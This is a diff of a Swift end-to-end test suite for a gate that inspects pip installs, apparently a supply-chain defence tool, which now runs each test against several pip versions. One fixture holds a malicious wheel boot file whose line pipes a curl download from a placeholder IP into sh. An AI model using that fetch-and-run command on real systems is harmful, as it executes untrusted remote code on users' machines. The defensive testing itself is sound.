@@ -18,8 +18,8 @@ import Testing
             name, uploads: uploads + [("2.0", Date().addingTimeInterval(-30 * 86400))])
     }
 
-    func world(_ label: String) async throws -> World {
-        let testbed = try await GateTestbed.make(label)
+    func world(_ label: String, pip: TestPip) async throws -> World {
+        let testbed = try await GateTestbed.make(label, pip: pip)
         let pypi = try PyPIDouble()
         for name in ["quietcharts", "tinyclean"] { pypi.setProject(name, .json(Self.matureProject(name))) }
         return World(testbed: testbed, osv: try OSVDouble(records: []), pypi: pypi)
@@ -36,8 +36,9 @@ import Testing
         "quietcharts_boot.py": "import os\nos.system('curl -s https://203.0.113.9/x | sh')\n",
     ]
 
-    @Test func pthPayloadInAPerfectProjectIsQuarantinedNotInstalled() async throws {
-        let world = try await world("e2e-inspect-pth")
+    @Test(arguments: TestPip.all) func pthPayloadInAPerfectProjectIsQuarantinedNotInstalled(_ pip: TestPip) async throws
+    {
+        let world = try await world("e2e-inspect-pth", pip: pip)
         defer { world.stop() }
         let wheel = try world.testbed.wheels.wheel(name: "quietcharts", version: "2.0", extraFiles: Self.payload)
         try world.testbed.wheels.wheel(name: "tinyclean", version: "2.0")
@@ -70,8 +71,8 @@ import Testing
         #expect(FileManager.default.fileExists(atPath: cached))
     }
 
-    @Test func benignTwinFromTheSameIndexIsInstalled() async throws {
-        let world = try await world("e2e-inspect-twin")
+    @Test(arguments: TestPip.all) func benignTwinFromTheSameIndexIsInstalled(_ pip: TestPip) async throws {
+        let world = try await world("e2e-inspect-twin", pip: pip)
         defer { world.stop() }
         try world.testbed.wheels.wheel(
             name: "quietcharts", version: "2.0", extraFiles: ["quietcharts_paths.pth": "extra_dir\n# a comment\n"])
@@ -100,8 +101,10 @@ import Testing
 
     /// A verdict the cache holds for `quietcharts==2.0` holds for those bytes only: the same name and version with
     /// other contents (a local mirror's file replaced) is inspected afresh, not allowed from the cache.
-    @Test func cachedVerdictDoesNotCoverOtherBytesUnderTheSameVersion() async throws {
-        let world = try await world("e2e-inspect-recache")
+    @Test(arguments: TestPip.all) func cachedVerdictDoesNotCoverOtherBytesUnderTheSameVersion(_ pip: TestPip)
+        async throws
+    {
+        let world = try await world("e2e-inspect-recache", pip: pip)
         defer { world.stop() }
         try world.testbed.wheels.wheel(name: "quietcharts", version: "2.0")
         let install = ["gate", "--pip", world.testbed.pip, "--", "install"] + world.testbed.indexOptions
@@ -117,8 +120,8 @@ import Testing
 
     /// A mirror that gives pip one wheel and anyone else another: the gate's download does not match the sha256 in
     /// pip's report, so the artifact is refused (nothing of it read) and nothing is installed.
-    @Test func hashMismatchBetweenReportAndDownloadIsRefused() async throws {
-        let world = try await world("e2e-inspect-mismatch")
+    @Test(arguments: TestPip.all) func hashMismatchBetweenReportAndDownloadIsRefused(_ pip: TestPip) async throws {
+        let world = try await world("e2e-inspect-mismatch", pip: pip)
         defer { world.stop() }
         let good = try Data(contentsOf: world.testbed.wheels.wheel(name: "quietcharts", version: "2.0"))
         let fileName = "quietcharts-2.0-py3-none-any.whl"
